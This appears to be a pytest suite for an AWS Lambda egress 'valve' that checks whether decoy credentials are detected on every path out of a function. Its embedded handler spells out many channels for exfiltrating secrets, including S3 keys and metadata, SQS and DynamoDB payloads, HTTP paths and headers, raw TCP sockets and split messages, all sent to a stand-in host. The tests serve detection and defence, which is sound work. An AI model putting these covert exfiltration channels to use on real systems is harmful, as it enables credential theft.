"""Every way out of an environment, by real clients through an enforced valve: a decoy is seen on each, with
the call and its line; without a lookout nothing is seen of what leaves all the same.

Knows ways out. Does not know spellings; `test_canary` has those.
"""

from __future__ import annotations

import asyncio
import base64
import json
import os
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import pytest

from tests.attacks.walled import machine
from valve_aws.canary import Flock, Lookout, Sighting, hatch
from valve_aws.model.verdict import Mode
from valve_aws.settings import Settings
from valve_aws.valve import Valve

FLOCK = hatch(os.urandom)

TEMPLATE = """
Transform: AWS::Serverless-2016-10-31
Resources:
  Worker:
    Type: AWS::Serverless::Function
    Properties:
      {Runtime: python3.11, Handler: app.handler, CodeUri: src, Timeout: 60, MemorySize: 256,
       Environment: {Variables: {FILES: !Ref Files, JOBS: !Ref Jobs, NOTES: !Ref Notes}},
       Policies: [AmazonS3FullAccess, AmazonSQSFullAccess, AmazonDynamoDBFullAccess]}
  Files: {Type: AWS::S3::Bucket}
  Jobs: {Type: AWS::SQS::Queue}
  Notes: {Type: AWS::Serverless::SimpleTable}
"""
POLICY = """
version: 1
mode: enforce
stores: {"http://kept.test/*": {accepts: []}, "tcp://kept.test:5432": {accepts: []}}
"""

HANDLER = '''
import base64, gzip, json, os, socket, urllib.error, urllib.request
import boto3
from botocore.exceptions import ClientError
S3, SQS, DB = boto3.client("s3"), boto3.client("sqs"), boto3.client("dynamodb")
FILES, JOBS, NOTES = os.environ["FILES"], os.environ["JOBS"], os.environ["NOTES"]
KEY, SECRET = os.environ.get("BACKUP_ACCESS_KEY_ID", ""), os.environ.get("BACKUP_SECRET_ACCESS_KEY", "")

def object_body(text): S3.put_object(Bucket=FILES, Key="a", Body=text)
def long_object_body(text):
    noise = os.urandom(300_000)
    S3.put_object(Bucket=FILES, Key="a", Body=noise + text + noise)
def zipped_object(text): S3.put_object(Bucket=FILES, Key="a", Body=gzip.compress(text))
def object_key(text): S3.put_object(Bucket=FILES, Key=base64.urlsafe_b64encode(text).decode(), Body=b"")
def object_metadata(text): S3.put_object(Bucket=FILES, Key="a", Body=b"", Metadata={"note": text.hex()})
def message(text): SQS.send_message(QueueUrl=JOBS, MessageBody=base64.b64encode(b"x" + text).decode())
def message_attribute(text):
    SQS.send_message(QueueUrl=JOBS, MessageBody="b", MessageAttributes={
        "a": {"DataType": "Binary", "BinaryValue": text[::-1]}})
def item(text): DB.put_item(TableName=NOTES, Item={"id": {"S": "1"}, "t": {"S": text.decode()}})
def read_key(text): DB.get_item(TableName=NOTES, Key={"id": {"S": text.decode()}})
def address(text): urllib.request.urlopen("http://kept.test/" + text.decode(), timeout=10).read()
def header(text): urllib.request.urlopen(
    urllib.request.Request("http://kept.test/", headers={"X-Trace": text.hex()}), timeout=10).read()
def astray(text):
    asked = urllib.request.Request("http://kept.test/", headers={"X-Original-URL": "/" + text.decode()})
    try: urllib.request.urlopen(asked, timeout=10)
    except urllib.error.HTTPError: pass
def post(text): urllib.request.urlopen("http://kept.test/", b"x" * 200_000 + text, timeout=10).read()
def connection(text):
    with socket.create_connection(("kept.test", 5432), 10) as there:
        there.sendall(b"hello " + text); there.shutdown(socket.SHUT_WR); there.recv(1)
def log(text): print("found", text.decode())
def result(text): return text.decode()
def own_key(text):
    theirs = boto3.client("s3", aws_access_key_id=KEY, aws_secret_access_key=SECRET)
    try: theirs.list_buckets()
    except ClientError: pass
def refused(text):
    try: S3.put_object(Bucket="attackers", Key=text.decode(), Body=b"")
    except ClientError: pass
def in_two(text):
    for half in (text[:len(text) // 2 - 1], text[len(text) // 2 - 1:]):
        SQS.send_message(QueueUrl=JOBS, MessageBody=half.hex())
def honest(text): SQS.send_message(QueueUrl=JOBS, MessageBody="nothing of it")

def handler(event, context):
    text = base64.b64decode(event["text"])
    return globals()[event["way"]](text) or len(text)
'''

CALLS = {
    "object_body": "PutObject",
    "long_object_body": "PutObject",
    "zipped_object": "PutObject",
    "object_key": "PutObject",
    "object_metadata": "PutObject",
    "message": "SendMessage",
    "message_attribute": "SendMessage",
    "item": "PutItem",
    "read_key": "GetItem",
    "address": "Visit",
    "header": "Visit",
    "astray": "Unreadable",
    "post": "Visit",
    "connection": "Connect",
    "log": "Log",
    "result": "Result",
    "own_key": "ListBuckets",
    "refused": "PutObject",
    "in_two": "SendMessage",
}
HEADS = {"object_key", "object_metadata", "address", "header", "astray", "own_key", "refused"}
"""Ways by which it leaves in a request's line or its headers."""


@dataclass(frozen=True)
class Seen:
    """What was seen of one way, and what was decided."""

    sightings: list[Sighting]
    verdicts: list[tuple[str, str]]
    payload: bytes


class Stage:
    """One valve on the function, with somebody listening behind the hosts that the policy names."""

    def __init__(self, folder: Path, port: int) -> None:
        (folder / "src").mkdir()
        for name, content in (("template.yaml", TEMPLATE), ("valve.yaml", POLICY), ("src/app.py", HANDLER)):
            (folder / name).write_text(content)
        settings = Settings(
            template=folder / "template.yaml",
            resolve={("kept.test", at): ("127.0.0.1", port) for at in (80, 5432)},
            variables={"Parameters": FLOCK.variables()},
        )
        self.valve = Valve.read(settings, lambda _: None)
        self.loop = asyncio.new_event_loop()
        self.loop.run_until_complete(self.valve.open())

    def play(self, way: str, text: bytes, flock: Flock | None = FLOCK) -> Seen:
        """Have the function let something out by a way."""
        lookout = Lookout(flock) if flock else None
        self.valve.passage.lookout = lookout
        before = len(self.valve.records)
        event = json.dumps({"way": way, "text": base64.b64encode(text).decode()}).encode()
        done = self.loop.run_until_complete(self.valve.invoke("Worker", event))
        verdicts = [(r.operation, r.verdict) for r in self.valve.records[before:]]
        return Seen(lookout.sightings if lookout else [], verdicts, done.payload)

    def close(self) -> None:
        self.loop.run_until_complete(self.valve.close())
        self.loop.close()


@contextmanager
def opened(folder: Path) -> Iterator[tuple[Stage, list[Any]]]:
    with machine() as (port, told):
        stage = Stage(folder, port)
        try:
            yield stage, told
        finally:
            stage.close()


@pytest.fixture(scope="module")
def stage(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stage]:
    folder = tmp_path_factory.mktemp("canary")
    folder.chmod(0o755)
    with opened(folder) as (made, _):
        yield made


@pytest.mark.parametrize("way", CALLS)
def test_a_decoy_is_seen_on_every_way_out_and_no_verdict_depends_on_it(way: str, stage: Stage) -> None:
    decoy = FLOCK.access_key if way == "own_key" else FLOCK.secret_key
    text = decoy.value.encode()
    unseen = stage.play(way, text, flock=None)
    seen = stage.play(way, text)
    assert unseen.sightings == []
    assert unseen.verdicts == seen.verdicts, "evidence only"
    assert (seen.payload, ("PutObject", "refuse") in seen.verdicts) == (unseen.payload, way == "refused")
    (sighting,) = seen.sightings
    assert sighting.decoy == decoy
    assert sighting.part == ("its head" if way in HEADS else "its body")
    for place in sighting.places:
        assert (place.function, place.operation) == ("Worker", CALLS[way])
        if place.service != "valve" or place.operation == "Visit":
            assert place.evidence.file == "src/app.py"
            assert place.record in {record.ident for record in stage.valve.records}
    assert len(sighting.places) == (2 if way == "in_two" else 1)


def test_a_function_that_holds_decoys_and_lets_none_out_is_not_told_of(stage: Stage) -> None:
    assert stage.play("honest", FLOCK.secret_key.value.encode()).sightings == []
    other = hatch(os.urandom)
    if other.mark != FLOCK.mark:
        assert stage.play("message", other.secret_key.value.encode()).sightings == []


def test_with_the_guard_off_decoys_are_seen_as_well(
    stage: Stage, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(stage.valve, "mode", Mode.OFF)
    monkeypatch.setattr(stage.valve.passage, "court", replace(stage.valve.passage.court, mode=Mode.OFF))
    for way in ("result", "message", "header", "log"):
        (sighting,) = stage.play(way, FLOCK.secret_key.value.encode()).sightings
        assert sighting.places[0].operation == CALLS[way]


def test_what_is_seen_is_in_the_bytes_that_arrive(tmp_path: Path) -> None:
    tmp_path.chmod(0o755)
    with opened(tmp_path) as (stage, told):
        text = FLOCK.secret_key.value.encode()
        assert [s.decoy.kind for s in stage.play("header", text).sightings] == ["secret key"]
        assert [s.decoy.kind for s in stage.play("address", text).sightings] == ["secret key"]
        assert any(text.decode() in str(each) for each in told), told


def test_parts_are_told_of_with_every_call_that_had_one(stage: Stage) -> None:
    (sighting,) = stage.play("in_two", FLOCK.secret_key.value.encode()).sightings
    first, second = sighting.places
    assert first.record != second.record
    assert replace(first, record="") == replace(second, record="")
